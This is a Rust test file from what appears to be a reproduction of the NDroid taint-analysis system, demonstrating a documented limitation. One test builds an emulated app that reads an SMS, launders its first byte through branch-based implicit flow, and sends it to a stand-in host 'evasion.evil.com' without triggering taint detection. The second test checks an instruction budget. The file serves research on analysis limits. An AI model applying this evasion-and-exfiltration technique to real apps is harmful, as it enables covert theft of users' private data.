//! Faithful limitations (§VII of the paper): "Similar to TaintDroid
//! and Droidscope, NDroid does not track control flows. Therefore, it
//! could be evaded by apps that use the same control flow based
//! techniques for circumventing those systems."
//!
//! These tests *demonstrate* the documented limitation — they assert
//! that the evasion works, exactly as the paper concedes it would.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::{Cond, Reg};
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

/// Native code copies a secret byte-by-byte through a **control-flow
/// channel**: for each bit, it branches on the tainted value and writes
/// a constant 0 or 1 — no data dependency ever reaches the output.
fn control_flow_evasion_app() -> ndroid::apps::App {
    let mut b = AppBuilder::new("cf-evasion", "implicit-flow copy defeats explicit tracking");
    let c = b.class("Lapp/Evade;");
    let out_buf = b.data_buffer(64);
    let dest = b.data_cstr("evasion.evil.com");

    // void exfil(String s): for first byte of s, rebuild it bit by bit
    // via compare-and-branch, then send the reconstruction.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.ldrb(Reg::R4, Reg::R0, 0); // tainted first byte
    // r5 = reconstructed value (clean), r6 = bit index
    b.asm.mov_imm(Reg::R5, 0).unwrap();
    b.asm.mov_imm(Reg::R6, 0).unwrap();
    let bit_loop = b.asm.here_label();
    // r7 = (r4 >> r6) & 1 — still tainted …
    b.asm.emit(ndroid::arm::Instr::Dp {
        cond: Cond::Al,
        op: ndroid::arm::DpOp::Mov,
        s: false,
        rd: Reg::R7,
        rn: Reg::R0,
        op2: ndroid::arm::Op2::RegShiftReg {
            rm: Reg::R4,
            kind: ndroid::arm::ShiftKind::Lsr,
            rs: Reg::R6,
        },
    });
    b.asm.and_imm(Reg::R7, Reg::R7, 1).unwrap();
    // … but the branch *condition* is where the information escapes:
    b.asm.cmp_imm(Reg::R7, 0).unwrap();
    let bit_clear = b.asm.label();
    b.asm.b_cond(Cond::Eq, bit_clear);
    // bit set: r5 |= (1 << r6) — built from CONSTANTS only.
    b.asm.mov_imm(Reg::R7, 1).unwrap();
    b.asm.emit(ndroid::arm::Instr::Dp {
        cond: Cond::Al,
        op: ndroid::arm::DpOp::Mov,
        s: false,
        rd: Reg::R7,
        rn: Reg::R0,
        op2: ndroid::arm::Op2::RegShiftReg {
            rm: Reg::R7,
            kind: ndroid::arm::ShiftKind::Lsl,
            rs: Reg::R6,
        },
    });
    b.asm.orr(Reg::R5, Reg::R5, Reg::R7);
    b.asm.bind(bit_clear).unwrap();
    b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
    b.asm.cmp_imm(Reg::R6, 8).unwrap();
    b.asm.b_cond(Cond::Ne, bit_loop);
    // Store the laundered byte and send it.
    b.asm.ldr_const(Reg::R1, out_buf);
    b.asm.strb(Reg::R5, Reg::R1, 0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R7, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R7);
    b.asm.ldr_const(Reg::R1, out_buf);
    b.asm.mov_imm(Reg::R2, 1).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "exfil", "VL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Evade;", "main").unwrap()
}

#[test]
fn control_flow_evasion_defeats_explicit_tracking() {
    let sys = control_flow_evasion_app().run(Mode::NDroid).unwrap();
    // The first byte of the SMS really went out …
    assert_eq!(sys.report().network_log.len(), 1);
    assert_eq!(*sys.report().network_log[0].1, [b's'], "'secret…'[0]");
    // … but no explicit dataflow reaches the sink: the evasion works,
    // exactly as §VII concedes for all three systems.
    assert!(
        sys.leaks().is_empty(),
        "no control-flow taint — the documented limitation"
    );
}

#[test]
fn fuel_bounds_pathological_guests() {
    // "NDroid executes one path at a time" — and our reproduction adds
    // an instruction budget so runaway guests terminate analysis
    // instead of hanging it.
    let mut b = AppBuilder::new("spin", "infinite native loop");
    let c = b.class("Lapp/Spin;");
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    let top = b.asm.here_label();
    b.asm.b(top);
    b.asm.bx(Reg::LR);
    let native = b.native_method(c, "spin", "V", true, entry);
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let app = b.finish("Lapp/Spin;", "main").unwrap();
    let mut sys = app.launch(Mode::NDroid);
    sys.budget = 50_000;
    let err = sys.run_java("Lapp/Spin;", "main", &[]).unwrap_err();
    assert!(err.to_string().contains("budget") || err.to_string().contains("native"));
}
